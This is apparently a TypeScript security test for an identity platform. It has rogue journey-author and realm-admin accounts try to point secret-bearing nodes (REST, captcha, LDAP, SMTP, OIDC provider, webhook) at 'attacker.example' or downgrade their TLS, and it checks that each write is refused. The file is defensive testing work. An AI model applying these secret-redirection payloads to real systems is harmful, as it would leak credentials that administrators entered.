import { successId } from '../../../src/engine/journey.ts'
import { type Ask, asking } from '../../../test/support/rest.ts'
import { type Attack, mustHold } from '../attack.ts'
import { createRogue, realmPath } from '../staff.ts'

const at = realmPath('alpha')
const trees = `${at}/realm-config/authentication/authenticationtrees`
const attacker = 'attacker.example'

type Prey = { type: string; settings: object; secret: string; moves: readonly object[] }

/** Nodes with secrets that somebody else entered, and how their addresses can move. */
const prey: Readonly<Record<string, Prey>> = {
  http: {
    type: 'RESTNode',
    settings: { restURL: 'https://risk.example', basicAuthn: true, basicAuthnUsername: 'us' },
    secret: 'basicAuthnPassword',
    moves: [{ restURL: `https://${attacker}` }, { restURL: 'http://risk.example' }],
  },
  captcha: {
    type: 'product-CaptchaNode',
    settings: { siteKey: 'site' },
    secret: 'secretKey',
    moves: [{ captchaUri: `https://${attacker}` }],
  },
  directory: {
    type: 'LdapDecisionNode',
    settings: { primaryServers: ['ldap.example:636'], ldapConnectionMode: 'LDAPS', adminDn: 'cn=us' },
    secret: 'adminPassword',
    moves: [
      { primaryServers: [`${attacker}:636`] },
      { secondaryServers: [`${attacker}:636`] },
      { ldapConnectionMode: 'LDAP' },
      { trustAllServerCertificates: true },
    ],
  },
  mail: {
    type: 'OneTimePasswordSmtpSenderNode',
    settings: { hostName: 'mail.example', username: 'us', fromEmailAddress: 'us@example.com' },
    secret: 'password',
    moves: [{ hostName: attacker }, { hostPort: 2525 }, { sslOption: 'NON_SSL' }],
  },
}

/** A journey author and a realm administrator move the addresses beside secrets that they can't read. */
export const movedSecret: Attack = {
  name: 'moved-secret',
  defence: 'R10: a stored secret follows its node to another address',
  goal: "a secret that somebody else entered, sent to the attacker's server from its own setting",
  async play(scene) {
    const administrator = asking(scene.url, scene.administrator)
    const author = await createRogue(scene, 'mover', ['journey-author'])
    const boss = await createRogue(scene, 'landlord', ['realm-admin'])
    let tries = 0
    for (const [name, one] of Object.entries(prey)) {
      await store(administrator, name, one)
      for (const move of one.moves) tries += await moveNode(author.ask, name, one, move)
    }
    tries += await moveDocuments(administrator, boss.ask)
    return `${tries} writes that moved a stored secret were refused`
  },
}

async function store(ask: Ask, name: string, { type, settings, secret }: Prey): Promise<void> {
  const body = { ...settings, [secret]: 'Entered-By-The-Administrator' }
  await written(ask, `${trees}/nodes/${type}/${name}`, body)
  await written(ask, `${trees}/trees/prey-${name}`, {
    entryNodeId: name,
    nodes: { [name]: { nodeType: type, displayName: name, connections: { outcome: successId } } },
  })
}

async function written(ask: Ask, path: string, body: object): Promise<void> {
  const { status } = await ask(path, { method: 'PUT', body })
  if (status >= 300) throw new Error(`${path} could not be saved: ${status}`)
}

/** Every way in which an author can write a node. @returns the number of tries */
async function moveNode(ask: Ask, name: string, { type, secret }: Prey, move: object): Promise<number> {
  const path = `${trees}/nodes/${type}/${name}`
  const tree = `${trees}/trees/prey-${name}`
  const whole = `${at}/journeys/prey-${name}`
  const { body: settings } = await ask(path)
  const { body: graph } = await ask(tree)
  const { body: drawn } = await ask(whole)
  const { body: file } = await ask(`${at}/journeys?_action=export`, {
    method: 'POST',
    body: { journeys: [`prey-${name}`] },
  })
  const moved = { ...settings, ...move }
  Object.assign(file.trees[`prey-${name}`].nodes[name], move)
  const inline = { ...graph, nodes: { [name]: { ...graph.nodes[name], config: moved } } }
  const inEditor = { ...drawn, nodes: { [name]: { ...drawn.nodes[name], ...move } } }
  const writes: [method: string, path: string, body: object, headers?: Record<string, string>][] = [
    ['PUT', path, moved],
    ['PUT', path, { ...moved, [secret]: '********' }],
    ['PUT', tree, inline],
    ['PUT', whole, inEditor, { 'if-match': `"${drawn._rev}"` }],
    ['POST', `${at}/journeys?_action=import`, file],
  ]
  for (const [method, to, body, headers = {}] of writes) {
    const { status } = await ask(to, { method, body, headers })
    mustHold(status >= 400, `${method} ${to} moved the secret with ${JSON.stringify(move)}: ${status}`)
  }
  const { body: after } = await ask(path)
  mustHold(JSON.stringify(after) === JSON.stringify(settings), `${path} changed with a refused write`)
  return writes.length
}

/** @returns the number of tries */
async function moveDocuments(administrator: Ask, boss: Ask): Promise<number> {
  const provider = `${at}/realm-config/services/SocialIdentityProviders/oidcConfig/prey`
  const webhook = `${at}/realm-config/webhooks/prey`
  const secret = 'Entered-By-The-Administrator'
  const oidc = { clientId: 'us', redirectURI: 'https://us.example', tokenEndpoint: 'https://idp.example' }
  const call = { url: 'https://tickets.example', body: '' }
  await written(administrator, provider, { ...oidc, clientSecret: secret })
  await written(administrator, webhook, { ...call, headers: { authorization: secret } })
  const headers = { authorization: '********' }
  const tries: [path: string, body: object][] = [
    [provider, { ...oidc, tokenEndpoint: `https://${attacker}` }],
    [provider, { ...oidc, tokenEndpoint: '', wellKnownEndpoint: `https://${attacker}` }],
    [provider, { ...oidc, clientSecret: '********', tokenEndpoint: `https://${attacker}` }],
    [webhook, { ...call, headers, url: `https://${attacker}` }],
  ]
  for (const [path, body] of tries) {
    const { status } = await boss(path, { method: 'PUT', body })
    mustHold(status === 400, `PUT ${path} moved the secret: ${status}`)
  }
  return tries.length
}
